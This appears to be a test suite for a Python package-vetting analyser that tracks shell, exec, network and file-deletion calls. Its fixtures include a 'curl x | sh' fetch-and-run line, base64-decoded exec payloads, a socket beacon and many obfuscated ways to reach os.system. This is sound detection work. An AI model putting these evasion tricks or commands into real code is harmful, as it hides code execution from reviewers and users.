from __future__ import annotations

import ast
import re
from collections.abc import Callable

from hypothesis import example, given, settings
from hypothesis import strategies as st
from rulekit import py

from pipvet.analysis.facts import (
    CallFact,
    Scope,
    capabilities,
    collect,
    facts_of,
    identifiers,
    load_facts,
    may_call,
)
from pipvet.analysis.flow import trace

SOURCE = """
import base64 as b, os
from os import system as sy
import subprocess
import requests
e = exec
s = requests.Session()
class Foo(object):
    x = os.popen("id")
    def run(self):
        sy("curl x | sh")
def helper():
    __import__('os').system('ls')
    getattr(__import__('builtins'), 'exec')(b.b64decode('aGk='))
    s.get('http://x')
e(b.b64decode("cHJpbnQoMSk="))
helper()
if __name__ == "__main__":
    subprocess.call(['ls'])
"""


def _calls(source: str) -> dict[str, list[int]]:
    out: dict[str, list[int]] = {}
    for c in collect(ast.parse(source)).calls:
        out.setdefault(c.name, []).append(c.line)
    return out


def test_aliases_and_indirections_resolve() -> None:
    calls = _calls(SOURCE)
    assert calls["os.system"] == [11, 13]
    assert calls["base64.b64decode"] == [14, 16]
    assert calls["exec"] == [14, 16]
    assert calls["requests.Session().get"] == [15]


def test_when_calls_run() -> None:
    facts = collect(ast.parse(SOURCE))
    by_line = {c.line: c for c in facts.calls}
    assert by_line[9].scope is Scope.CLASS
    assert by_line[9].at_load
    assert by_line[11].function == "Foo.run"
    assert not by_line[11].at_load
    assert by_line[19].main_guard
    assert not by_line[19].at_load
    assert by_line[19].at_exec
    assert next(c for c in facts.calls if c.line == 14 and c.name == "exec").indirect


def test_reachable_calls_follow_local_functions() -> None:
    facts = collect(ast.parse(SOURCE))
    roots = [c for c in facts.calls if c.at_load]
    names = {c.name for c in facts.reachable_calls(roots)}
    assert "requests.Session().get" in names
    assert "os.system" in names


def test_capabilities_and_write_modes() -> None:
    source = "open('a', 'wb')\nopen('b')\nimport re\nre.compile('x')\n"
    source += "from pathlib import Path\nPath('x').write_text('y')\n"
    facts = collect(ast.parse(source))
    caps = [capabilities(c) for c in facts.calls]
    assert caps[0] == {"file_write"}
    assert caps[1] == set()
    assert all("compile" not in c for c in caps)
    assert any("file_write" in c for c in caps[2:])


def test_local_variable_is_not_a_module() -> None:
    calls = _calls("requests = []\nrequests.append(1)\n")
    assert "?requests.append" in calls


def test_facts_are_memoised_and_absent_without_tree() -> None:
    file = py("x = 1\n")
    assert facts_of(file) is facts_of(file)
    assert facts_of(py("print 'py2'\n")) is None


def test_deep_expression_does_not_overflow() -> None:
    source = "x = " + " + ".join(["'a'"] * 900) + "\n"
    facts = collect(ast.parse(source))
    assert len(facts.literals) == 900


def test_load_facts_walk_only_what_runs_on_load() -> None:
    file = py(
        "import socket, base64\n"
        "def unused():\n"
        "    socket.create_connection(('h', 1))\n"
        "def decode(x):\n"
        "    return base64.b64decode(x)\n"
        "def beacon():\n"
        "    payload = decode('aGk=')\n"
        "    socket.create_connection((payload, 1))\n"
        "beacon()\n"
    )
    facts = load_facts(file)
    assert facts is not None
    assert {c.name for c in facts.calls} == {"beacon"}  # module level only, so far
    roots = [c for c in facts.calls if c.at_load]
    reached = {c.name: c.line for c in facts.reachable_calls(roots)}
    assert reached["socket.create_connection"] == 8
    assert "unused" not in {c.function for c in facts.calls}  # never walked
    beacon = next(c for c in facts.calls if c.name == "socket.create_connection")
    assert facts.runs_on_load(beacon)
    # The data flow follows into helpers the lazy walk had not visited.
    flow = trace(facts, beacon.node.args[0], beacon.function)
    assert flow.decoded
    # Asking for the full facts walks everything, once, and load_facts then returns them.
    full = facts_of(file)
    assert full is not None
    assert {c.line for c in full.calls if c.name == "socket.create_connection"} == {3, 8}
    assert load_facts(file) is full


def test_capability_gate_sees_names_the_text_spells_or_hides() -> None:
    assert not may_call(py("import json\njson.dumps({})\n"), "network", "process")
    assert may_call(py("import urllib.request as u\nu.urlopen('x')\n"), "network")
    assert may_call(py("from os import system as s\ns('id')\n"), "process")
    # Escapes and implicitly joined literals can spell a name the text does not show.
    assert may_call(py("getattr(__import__('o' 's'), 'sys' 'tem')('id')\n"), "process")
    assert may_call(py("getattr(__import__('\\x6fs'), '\\x73ystem')('id')\n"), "process")
    assert may_call(py("getattr(__import__('os'), '\\N{LATIN SMALL LETTER S}yst' 'em')('id')\n"), "process")
    assert may_call(py("getattr(__import__('os'), 'sy' \\\n  '\\163tem')('id')\n"), "process")
    assert may_call(py("getattr(__import__('os'), ''.join(['sys', 'tem']))('id')\n"), "process")
    # ... but only the names they spell count: wrapped messages and escaped data are no call.
    assert not may_call(
        py("msg = ('a long message '\n       'wrapped by a formatter')\n"), "process", "network"
    )
    assert not may_call(py("BOM = '\\xef\\xbb' 'Z'\nsep = '\\x2f'\n"), "process", "network")


_SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda c: c,
    "hex": lambda c: f"\\x{ord(c):02x}",
    "octal": lambda c: f"\\{ord(c):03o}",
    "unicode": lambda c: f"\\u{ord(c):04x}",
    "named": lambda c: f"\\N{{LATIN SMALL LETTER {c.upper()}}}",
}


@settings(max_examples=300, deadline=None)
@given(
    cuts=st.sets(st.integers(1, 5)),
    spellings=st.lists(st.sampled_from(sorted(_SPELLINGS)), min_size=6, max_size=6),
    joint=st.sampled_from(["'  # part\n    '", "' '", "'\n    '", "' \\\n '", "''", "' b'", "'f'"]),
)
def test_a_name_spelled_by_joined_or_escaped_pieces_always_passes_the_gate(
    cuts: set[int], spellings: list[str], joint: str
) -> None:
    """However 'system' is cut into implicitly joined literals and escaped, the gate sees it."""
    chars = [_SPELLINGS[how](c) for how, c in zip(spellings, "system", strict=True)]
    pieces = ["".join(chars[a:b]) for a, b in zip([0, *sorted(cuts)], [*sorted(cuts), 6], strict=True)]
    source = "import os\ngetattr(os, '" + joint.join(pieces) + "')('id')\n"
    assert may_call(py(source), "process"), source


def test_an_escape_past_the_last_code_point_does_not_crash_the_gates() -> None:
    """'\\UFFFFFFFF' is no character: the gate keeps the escape as written instead of failing
    (a crash here made every rule that asks the gate fail on the file)."""
    source = "import os\nMARK = b'\\UFFFFFFFF'\ngetattr(os, '\\x73ystem')('id')\n"
    assert may_call(py(source), "process")


def test_lazy_facts_leave_no_reference_cycle() -> None:
    """A lazily walked file's facts and syntax tree are freed by reference counting alone: a
    cycle between the facts and their walker would leave every node of every analysed file to
    the cyclic collector (about a tenth of an analysis)."""
    import gc

    source = "import socket\ndef beacon():\n    socket.create_connection(('h', 1))\nbeacon()\n"
    gc.collect()
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        file = py(source)
        facts = load_facts(file)
        assert facts is not None
        facts.ensure("beacon")
        assert any(c.name == "socket.create_connection" for c in facts.calls)
        del file, facts
        assert gc.collect() == 0  # nothing was left for the collector to find
    finally:
        if was_enabled:
            gc.enable()


@settings(max_examples=400, deadline=None)
@given(st.text(st.sampled_from(list("aZ_09 .\n('\"\u00e9\u212a")), max_size=80))
@example("0system 12ab_3 99 x1 \u00e9exec _")
def test_identifiers_are_what_an_identifier_pattern_finds(text: str) -> None:
    expected = frozenset(re.findall(r"[A-Za-z_][A-Za-z0-9_]*", text))
    assert identifiers(py(text)) == expected


def test_joined_literal_search_stays_linear_on_comment_blocks() -> None:
    """Pieces joined across a few comment lines count; long comment blocks full of quotes, and
    CRLF comment lines, once made the joined-literal pattern crawl (a quadratic scan from every
    quote, an exponential one per CR): these files now take a few steps per line."""
    from pipvet.analysis.facts import spells_names_plainly

    assert not spells_names_plainly(py("x = ('sys'\r\n  # one\r\n  # two\r\n  'tem')\r\n"))
    assert spells_names_plainly(py("x = 'a'\n" + "# don't 'quote' me\n" * 5000 + "y = 1\n"))
    assert spells_names_plainly(py("x = ('a'\r\n" + "# ----\r\n" * 30 + "'b')\r\n"))


def test_default_parameters_that_name_an_import_are_aliases_in_the_body() -> None:
    facts = collect(
        ast.parse(
            "import os, subprocess\n"
            "from urllib.request import urlopen\n"
            "run = lambda _s=subprocess: _s.Popen(['id'])\n"
            "def fetch(url, *, opener=urlopen, _rm=os.remove):\n"
            "    _rm(url)\n"
            "    return opener(url)\n"
            "def plain(cb=print, n=3, handler=fetch):\n"
            "    return cb(n), handler(n)\n"
        )
    )
    names = {c.name for c in facts.calls}
    assert {"subprocess.Popen", "os.remove", "urllib.request.urlopen"} <= names
    # Defaults that are not imports stay parameters: nothing is claimed about them.
    assert "?cb" in names
    assert "?handler" in names


def test_default_parameter_does_not_rebind_a_name_already_bound() -> None:
    facts = collect(
        ast.parse(
            "import os, json\n"
            "from shutil import rmtree as clean\n"
            "def f(clean=json.dumps):\n"
            "    return clean({})\n"
        )
    )
    assert "shutil.rmtree" in {c.name for c in facts.calls}


def _names(source: str) -> set[str]:
    return {c.name for c in collect(ast.parse(source)).calls}


def test_names_reached_without_writing_them_resolve() -> None:
    """Ways to call os.system or subprocess.Popen without the call reading as one."""
    assert "subprocess.Popen" in _names("from subprocess import *\nPopen(['id'])\n")
    assert "os.system" in _names("import os\n(p := os.system)('id')\n")
    assert "os.system" in _names("import os\n{'r': os.system, 'q': print}['r']('id')\n")
    for spelled in ("'sys' + 'tem'", "'metsys'[::-1]", "''.join(['sy', 'stem'])", "f'system'"):
        assert "os.system" in _names(f"import os\ngetattr(os, {spelled})('id')\n"), spelled
    # A star import does not claim names the file binds itself.
    assert "?run" in _names("from subprocess import *\ndef f(run):\n    run()\n")
    assert "?call" in _names("from subprocess import *\ncall = None\ncall()\n")
    assert "?tk" in _names("from tkinter import *\ntk()\n")  # no capability: left alone
    # A dict display without that key, or with it twice, resolves to nothing.
    assert "os.system" not in _names("import os\n{'r': os.system, 'r': print}['r']('id')\n")


def test_runners_count_the_callable_they_are_handed_as_called() -> None:
    facts = collect(
        ast.parse(
            "import functools, os, shutil, subprocess, threading, atexit\n"
            "functools.partial(subprocess.Popen, ['sh', '-c', 'id'])()\n"
            "threading.Thread(target=os.system, args=('id',)).start()\n"
            "atexit.register(shutil.copy2, 'a', '/tmp/x')\n"
            "threading.Thread(target=print).start()\n"
        )
    )
    handed = {c.name: c for c in facts.calls if c.indirect}
    assert {"subprocess.Popen", "os.system", "shutil.copy2"} <= set(handed)
    assert "print" not in handed  # only callables of known capability
    popen = handed["subprocess.Popen"]
    assert popen.line == 2
    assert isinstance(popen.node.args[0], ast.List)  # the arguments the callable will get
    assert isinstance(handed["os.system"].node.args[0], ast.Constant)


def test_a_lambda_decorator_runs_when_the_def_runs() -> None:
    facts = collect(ast.parse("import os\n@lambda f: os.system('id')\ndef g():\n    pass\n"))
    [call] = [c for c in facts.calls if c.name == "os.system"]
    assert call.at_load


def test_callables_kept_in_classes_loops_and_native_libraries_resolve() -> None:
    """A capability bound in a class body, taken from a tuple in a loop, or reached through the
    C library; harmless look-alikes stay what they are."""
    assert "os.system" in _names("import os\nclass K:\n    run = os.system\nK.run('id')\n")
    assert "os.system" in _names("import os\nclass K:\n    r = staticmethod(os.system)\nK().r('id')\n")
    method = "import os\nclass K:\n    r = os.popen\n    def go(self):\n        self.r('id')\n"
    assert "os.popen" in _names(method)
    assert "os.system" in _names("import os\nfor f in (print, os.system):\n    f('id')\n")
    assert "?f" in _names("import os\nfor f in (os.path.exists, print):\n    f('x')\n")
    native = _by_name("import ctypes\nctypes.CDLL(None).system(b'id')\n")
    assert "process" in capabilities(native["ctypes.CDLL().system"])
    bound = _by_name("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'id')\n")
    assert "process" in capabilities(bound["ctypes.CDLL().system"])
    # A class attribute of no known capability, and a native function that runs nothing.
    assert "K.name" in _names("class K:\n    name = 'x'.upper\nK.name()\n")
    info = _by_name("import ctypes\nctypes.CDLL('libfoo.so').system_info()\n")
    assert capabilities(info["ctypes.CDLL().system_info"]) == set()


def _by_name(source: str) -> dict[str, CallFact]:
    return {c.name: c for c in collect(ast.parse(source)).calls}


def test_a_capability_returned_by_a_local_function_is_an_alias_not_reflection() -> None:
    facts = collect(
        ast.parse(
            "import urllib.request\n"
            "def _opener():\n"
            "    return urllib.request.urlopen\n"
            "with _opener()('https://example.org', timeout=5) as r:\n"
            "    r.read()\n"
        )
    )
    call = next(c for c in facts.calls if c.line == 4 and c.name.endswith("urlopen"))
    assert call.name == "urllib.request.urlopen"
    assert not call.indirect


def test_inferred_calls_carry_a_place_in_the_source() -> None:
    """Calls pipvet infers (a metaclass or ``__init_subclass__`` run by a class statement, a
    callback, ``operator.methodcaller``) point at a line like written ones: rules report it."""
    source = (
        "import concurrent.futures, operator, os\n"
        "class M(type):\n    pass\n"
        "class B:\n    def __init_subclass__(cls):\n        pass\n"
        "class K(B, metaclass=M):\n    pass\n"
        "concurrent.futures.ThreadPoolExecutor().submit(os.system, 'id')\n"
        "operator.methodcaller('system', 'id')(os)\n"
    )
    facts = facts_of(py(source))
    assert facts is not None
    names = {c.name for c in facts.calls}
    assert {"M", "B.__init_subclass__", "os.system"} <= names
    for call in facts.calls:
        for node in ast.walk(call.node):
            if isinstance(node, ast.expr):
                assert isinstance(node.lineno, int), (call.name, ast.dump(node))


def test_operations_on_a_local_instance_call_its_protocol_methods() -> None:
    """``with``, ``for``, ``if``, ``str()``, a call and a property read on an instance of a local
    class are calls of the methods Python runs for them, placed at the operation."""
    source = (
        "class K:\n"
        "    def __enter__(self): pass\n"
        "    def __exit__(self, *a): pass\n"
        "    def __iter__(self): pass\n"
        "    def __bool__(self): pass\n"
        "    def __str__(self): pass\n"
        "    def __call__(self): pass\n"
        "    @property\n"
        "    def p(self): pass\n"
        "    def m(self): pass\n"
        "k = K()\n"
        "with k:\n    pass\n"
        "for _ in k:\n    pass\n"
        "if k:\n    pass\n"
        "str(k)\n"
        "k()\n"
        "k.p\n"
        "k.m\n"
    )
    facts = collect(ast.parse(source))
    made = {c.name: c.line for c in facts.calls if c.name.startswith("K.")}
    assert made == {
        "K.__enter__": 12,
        "K.__exit__": 12,
        "K.__iter__": 14,
        "K.__bool__": 16,
        "K.__str__": 18,
        "K.__call__": 19,
        "K.p": 20,
    }
    for call in facts.calls:
        assert isinstance(call.node.func.lineno, int)  # rules quote the line of what is called


def test_operators_on_a_local_instance_call_their_methods() -> None:
    source = (
        "class K:\n"
        "    def __eq__(self, other): pass\n"
        "    def __format__(self, spec): pass\n"
        "    def __len__(self): pass\n"
        "    def __add__(self, other): pass\n"
        "    def __radd__(self, other): pass\n"
        "    def __getitem__(self, key): pass\n"
        "k = K()\n"
        "k == 1\n"
        "f'{k}'\n"
        "not k\n"
        "k + 1\n"
        "1 + k\n"
        "k[0]\n"
        "K() - 1\n"
    )
    facts = collect(ast.parse(source))
    made = sorted((c.line, c.name) for c in facts.calls if c.name.startswith("K."))
    assert made == [
        (9, "K.__eq__"),
        (10, "K.__format__"),
        (11, "K.__len__"),
        (12, "K.__add__"),
        (13, "K.__radd__"),
        (14, "K.__getitem__"),
    ]
